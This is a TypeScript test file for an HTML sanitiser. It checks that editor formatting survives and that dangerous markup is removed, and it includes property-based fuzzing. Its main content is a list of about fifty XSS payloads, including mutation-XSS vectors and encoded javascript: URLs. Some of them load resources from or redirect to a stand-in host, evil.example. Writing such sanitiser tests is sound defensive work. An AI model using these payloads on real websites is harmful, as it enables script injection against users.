/** Sanitising HTML: hostile parts are removed, and formatting and text are kept. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const tags = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote pre code strong b em i u s sub sup mark span a ul ol li table thead tbody tr th td'.split(
    ' ',
  ),
)
const attributes: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/i,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
  style: /^(text-align:(left|right|center|justify);?)$/,
  colspan: /^\d*$/,
  rowspan: /^\d*$/,
  start: /^-?\d*$/,
}

/** Parses sanitised HTML like a browser; returns the tags and attributes that are not allowed. */
function unsafeParts(html: string): string[] {
  const found: string[] = []
  const left = html.replace(
    /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>/g,
    (_whole, _end, tag, rest) => {
      if (!tags.has(tag)) found.push(`<${tag}>`)
      for (const [, name, value] of String(rest).matchAll(/\s+([a-z]+)="([^"]*)"/g)) {
        const plain = String(value).replace(/&amp;/g, '&')
        if (!attributes[name as string]?.test(plain)) found.push(`${name}="${value}"`)
      }
      return ''
    },
  )
  if (/[<>]/.test(left)) found.push(`a sign outside of tags: ${left}`)
  return found
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" target="_self" onclick="x()" style="position:fixed">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<style>@import "//evil.example/x.css"; p{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;text-align:center">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x>',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/"><link rel=stylesheet href=x>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="teamId" name="location" class="fixed">x</p>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  // Mutation XSS: serialising and parsing again changes the meaning.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a href="https://x.example/?a=1&quot; onmouseover=&quot;alert(1)">x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<p',
  '<img src="x` `<script>alert(1)</script>"` `>',
]

describe('hostile HTML is sanitised', () => {
  it.each(hostile)('%s', (html) => {
    const clean = cleanHtml(html)
    expect(unsafeParts(clean)).toEqual([])
    expect(cleanHtml(clean)).toBe(clean)
  })
})

it('keeps the formatting of a text editor', () => {
  const html =
    '<h2>Title</h2><p style="text-align:center">a <strong>b</strong> <em>c</em> <u>d</u> <s>e</s></p>' +
    '<ul><li><p>one</p></li></ul><ol start="3"><li>three</li></ol><blockquote><p>q</p></blockquote><pre><code>x &lt; y</code></pre>' +
    '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
  expect(cleanHtml(html)).toBe(html)
  expect(cleanHtml('<a href="https://x.example/?a=1&amp;b=2">x</a>')).toBe(
    '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
  )
})

it('keeps the words of plain text', () => {
  expect(cleanHtml('no tags')).toBe('no tags')
  expect(cleanHtml('1 < 2 & 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2')
})

it('sanitises again after removing a tag', () => {
  const clean = cleanHtml('<p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')
  expect(cleanHtml(clean)).toBe(clean)
})

it('sanitises random combinations', () => {
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...hostile),
      fc.string({ maxLength: 12 }),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '<!--',
        '-->',
        '<p>',
        '</p>',
        '<a href="',
        '<svg>',
        '</style>',
      ),
    ),
    { maxLength: 6 },
  )
  fc.assert(
    fc.property(pieces, (parts) => {
      const clean = cleanHtml(parts.join(''))
      expect(unsafeParts(clean)).toEqual([])
      expect(cleanHtml(clean)).toBe(clean)
    }),
    { numRuns: 500 },
  )
})
